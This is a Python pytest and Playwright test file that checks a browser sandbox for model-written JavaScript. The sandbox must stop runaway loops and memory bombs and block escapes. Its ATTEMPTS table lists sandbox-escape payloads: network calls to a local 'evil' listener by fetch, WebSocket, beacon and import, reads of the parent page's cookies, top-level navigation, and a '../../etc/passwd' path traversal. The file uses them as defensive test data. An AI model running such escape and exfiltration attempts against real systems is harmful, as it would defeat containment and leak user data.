"""Check that a model's JavaScript and the browser's files work, and that neither escapes (U4)."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, Route, expect

from tests.browser.stage import MARKS, Person, Server, at_the_page

pytestmark = MARKS


class Listener:
    """A server that must receive no request from the sandbox."""

    url = ""

    def __init__(self) -> None:
        self.heard: list[str] = []

    async def hear(self, request: web.Request) -> web.Response:
        self.heard.append(str(request.rel_url))
        return web.Response(text="heard", headers={"access-control-allow-origin": "*"})


@pytest_asyncio.fixture(loop_scope="session")
async def evil() -> AsyncIterator[Listener]:
    listener = Listener()
    app = web.Application()
    app.router.add_route("*", "/{anything:.*}", listener.hear)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    listener.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    yield listener
    await runner.cleanup()


async def run(person: Person, code: str) -> dict[str, Any]:
    """Run this code and return its call when it is settled."""
    await person.say(f"js: {code}" if not code.startswith("play:") else code.removeprefix("play:"))
    await person.by("run-here").last.click()
    await expect(person.call).not_to_have_attribute("data-state", "running", timeout=60_000)
    id = await person.call.get_attribute("data-call")
    call: dict[str, Any] = await person.told(f"/api/calls/{id}")
    return call


# The file that the endless play writes before its loop. It arrives after the loop has begun, since nothing is
# awaited.
BEGUN = """() => navigator.storage.getDirectory().then(root => root.getDirectoryHandle("dragoman-files"))
  .then(files => files.getFileHandle("begun.txt")).then(() => true, () => false)"""


async def test_what_does_not_end_is_ended_and_the_page_lives(browser: Browser, server: Server) -> None:
    """The browser gives the frame a separate process, as desktop browsers do (U4)."""
    async with at_the_page(browser, server) as person:
        await person.page.clock.install()  # the loop takes a whole processor as long as it runs
        await person.say("endless")
        await person.by("run-here").click()
        await person.until(BEGUN)
        await person.page.clock.fast_forward(5_000)
        await person.sees_call("failed")
        id = await person.call.get_attribute("data-call")
        call = await person.told(f"/api/calls/{id}")
        assert call["result"]["text"] == "the code was stopped after 5 seconds"
        await person.say("hello")
        await person.sees("How can I help?")


@pytest.mark.long
async def test_what_takes_all_memory_is_ended_and_the_page_lives(browser: Browser, server: Server) -> None:
    """U4: a browser without a process for the frame ends the page with it."""
    async with at_the_page(browser, server) as person:
        assert (await run(person, "play:bomb"))["state"] == "failed"
        await person.say("hello")
        await person.sees("How can I help?")


# `{url}` is the listener. `until` waits for one of two events of the object it is given.
UNTIL = "const until = (it, on) => new Promise((ok, no) => {{ it[on] = () => ok(on); it.onerror = no }}); "
ATTEMPTS = {
    "fetch": "return await fetch('{url}/?fetch').then(a => a.text())",
    "same origin": "return await fetch('/api/me').then(a => a.text())",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '{url}/?xhr', false); x.send(); return x.response",
    "socket": UNTIL + "return await until(new WebSocket('{url}'.replace('http', 'ws')), 'onopen')",
    "events": UNTIL + "return await until(new EventSource('{url}/?events'), 'onopen')",
    "worker": UNTIL + "return await until(new Worker('{url}/w.js'), 'onmessage')",
    "database": UNTIL + "return await until(indexedDB.open('x'), 'onsuccess')",
    "import": "return (await import('{url}/x.js')).default",
    "importScripts": "importScripts('{url}/?import'); return 'in'",
    "navigate": "location.href = '{url}/?go'; await new Promise(r => setTimeout(r, 500)); throw 'still here'",
    "parent": "return String(parent.document.cookie)",
    "top": "top.location = '{url}/?top'; return 'moved'",
    "storage": "localStorage.setItem('a', 'b'); return localStorage.getItem('a')",
    "cookie": "return document.cookie",
    "cache": "return String(await caches.open('x'))",
    "escape path": "return await files.read('../../etc/passwd')",
    "beacon": "return String(navigator.sendBeacon('{url}/?beacon', 'x'))",
}


LEAVING = ("navigate", "top")  # nothing comes after it


async def test_code_runs_its_result_or_error_goes_back_and_there_is_no_way_out(
    person: Person, evil: Listener
) -> None:
    """The code cannot reach the network, the page or anything stored (U4)."""
    call = await run(person, "console.log('hi'); return {answer: 6 * 7}")
    assert call["state"] == "completed"
    assert "42" in call["result"]["text"]
    assert "hi" in call["result"]["text"]
    await person.sees("Done.")
    call = await run(person, "throw new Error('no such luck')")
    assert call["state"] == "failed"
    assert "no such luck" in call["result"]["text"]
    home = person.page.url.rpartition("/c/")[0]
    codes = {name: code.format(url=evil.url) for name, code in ATTEMPTS.items()}
    tried = [
        f"await (async () => {{ {code} }})().then(it => passed[{name!r}] = it, () => refused.push({name!r}));"
        for name, code in codes.items()
        if name not in LEAVING
    ]
    ended = await run(
        person, f"const passed = {{}}, refused = []; {' '.join(tried)} return {{passed, refused}}"
    )
    outcome = json.loads(ended["result"]["text"])
    assert outcome["passed"].items() <= {"beacon": "false"}.items()
    assert {*outcome["refused"], *outcome["passed"]} == {*codes} - {*LEAVING}
    for name in LEAVING:
        assert (await run(person, codes[name]))["state"] == "failed", name
        assert person.page.url.startswith(home), name
    assert evil.heard == []
    assert await person.page.evaluate("localStorage.getItem('a')") is None


@pytest.mark.long
async def test_files_of_the_browser_are_written_listed_read_and_shown(person: Person) -> None:
    written = await run(person, "play:write")
    assert written["state"] == "completed"
    listed = await run(person, "play:list")
    assert "notes" in listed["result"]["text"]
    read = await run(person, "play:read")
    assert "written in the browser" in read["result"]["text"]
    used = await run(person, "return (await files.read('notes/a.txt')).length")
    assert "22" in used["result"]["text"]
    await person.by("open-files").first.click()
    await expect(person.page.locator("[data-testid=browser-file][data-path='notes/a.txt']")).to_be_visible()


@pytest.mark.long
async def test_a_call_runs_once_whatever_is_shown_and_in_however_many_tabs(person: Person) -> None:
    """The user leaves and returns, and another tab can run calls without a click (U4)."""
    told, go = list[str](), asyncio.Event()

    async def hold(route: Route) -> None:
        told.append(route.request.url)
        await go.wait()
        await route.continue_()

    await person.page.context.route("**/api/calls/*/result", hold)
    await person.say("js: return 6 * 7")
    await person.by("run-here-always").click()
    await expect(person.by("client-call")).to_have_text("Runs in this browser…")
    await person.by("new-conversation").click()
    await expect(person.by("welcome")).to_be_visible()
    await person.page.go_back()
    await expect(person.by("client-call")).to_have_text("Runs in this browser…")
    other = Person(await person.page.context.new_page(), person.server)
    await other.page.goto(person.page.url)
    await expect(other.by("client-call")).to_have_text("Runs in this browser…")
    go.set()
    for one in (person, other):
        await one.sees("Done.")
    assert len(told) == 1


@pytest.mark.long
async def test_a_result_that_could_not_be_told_is_told_later_and_nothing_runs_again(person: Person) -> None:
    """U4 × S3: the server is away when the code is over."""
    told: list[str | None] = []

    async def lose(route: Route) -> None:
        told.append(route.request.post_data)
        await (route.abort("connectionrefused") if len(told) < 3 else route.continue_())

    await person.page.route("**/api/calls/*/result", lose)
    await person.say("js: return Math.random()")
    await person.by("run-here-always").click()
    await person.sees("Done.")
    assert len(told) == 3
    assert len(set(told)) == 1
